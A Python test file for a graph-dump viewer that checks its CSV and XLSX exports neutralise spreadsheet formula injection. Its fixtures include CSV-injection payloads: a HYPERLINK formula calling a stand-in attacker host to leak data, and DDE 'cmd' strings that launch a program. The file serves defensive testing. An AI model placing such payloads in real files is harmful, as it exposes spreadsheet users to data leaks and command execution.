"""Formula injection (issue 30, point 4): node names from an uploaded dump that a spreadsheet
would run land in the CSV inert, numbers stay numbers, and the XLSX holds only strings."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from dumpmaker import RankDump, record, tensor
from graphboard.pipeline import BuildOptions, run_build
from graphboard.server.app import create_app
from graphboard.server.settings import Settings
from graphboard.table.cell_safety import FORMULA_STARTS, inert_cell
from test_cli import graphboard_command

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak","open me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_dump(folder: Path, shift: float) -> Path:
    """Top-level APIs named as an attacker would, with negative statistics (real numbers)."""
    dump = RankDump()
    for index, name in enumerate(HOSTILE):
        stats = (-0.25 - shift, -3.5, -1e-05 - shift, 2.0 + index)
        dump.add(
            f"{name}.{index}.forward",
            None,
            data=record(args=[tensor(stats=stats)], output=[tensor(stats=stats)]),
        )
    return dump.write(folder / "step0" / "rank0").parent.parent


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("hostile")
    target = hostile_dump(work / "target", 0.5)
    golden = hostile_dump(work / "golden", 0.0)
    result = run_build(BuildOptions(target=target, golden=golden, output_dir=work / "out"))
    return result.path


def spreadsheet_formulas(text: str) -> list[str]:
    """Load the CSV the way a spreadsheet takes typed input, cell by cell into openpyxl (which
    makes a text starting with '=' a formula), after dropping a leading tab / carriage return
    as a spreadsheet's CSV import does; a '+', '-' or '@' start that is no number would be a
    formula in Excel too. What would run."""
    sheet = openpyxl.Workbook().active
    found = []
    for row_number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for column, value in enumerate(row, start=1):
            typed = value.lstrip("\t\r")
            if typed[:1] in "+-@":
                try:
                    float(typed)
                except ValueError:
                    typed = "=" + typed
            cell = sheet.cell(row=row_number, column=column, value=typed)
            if cell.data_type == "f":
                found.append(value)
    return found


def check_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    names = [row[0] for row in rows[1:]]
    assert len(names) >= 2 * len(HOSTILE)  # an input and an output row per API
    assert all(name.startswith("'") for name in names), names
    assert spreadsheet_formulas(text) == []
    numbers = [cell for row in rows[1:] for cell in row if cell.startswith("-")]
    assert "-0.75" in numbers and "-3.5" in numbers  # negative statistics stay numbers
    for cell in numbers:
        float(cell)


def test_the_table_command_writes_no_formula(hostile_build: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    done = graphboard_command("table", hostile_build, "-o", out)
    assert done.returncode == 0, done.stderr
    check_csv(out.read_bytes().decode("utf-8"))  # keeps a cell's \r


def test_the_api_export_writes_no_formula_and_xlsx_holds_strings(
    hostile_build: Path, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    shutil.copyfile(hostile_build, data / "hostile.vis.db")
    with TestClient(create_app(Settings(data_dir=data)), base_url="http://127.0.0.1") as client:
        q = {"step": 0, "rank": 0}
        response = client.get("/api/graphs/hostile/table-export", params=q)
        assert response.status_code == 200, response.text
        check_csv(response.text)
        response = client.get("/api/graphs/hostile/table-export", params={**q, "format": "xlsx"})
        assert response.status_code == 200, response.text
    (tmp_path / "t.xlsx").write_bytes(response.content)
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}  # no formula, and numbers as text
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # the names as they are (XML reads a "\r" as "\n"): an inline string never runs
    assert sorted({name.split(".")[0] for name in names}) == sorted(
        {name.split(".")[0].replace("\r", "\n") for name in HOSTILE}
    )


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("@A1", "'@A1"),
        ("+A1", "'+A1"),
        ("-A1", "'-A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-inf", "'-inf"),
        ("-", "'-"),
        ("-0.5", "-0.5"),
        ("+1e-05", "+1e-05"),
        ("-12%", "-12%"),
        ("N/A", "N/A"),
        ("Module.a.forward.0", "Module.a.forward.0"),
        ("", ""),
    ],
)
def test_owasp_rule(cell: str, shown: str) -> None:
    assert inert_cell(cell) == shown
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
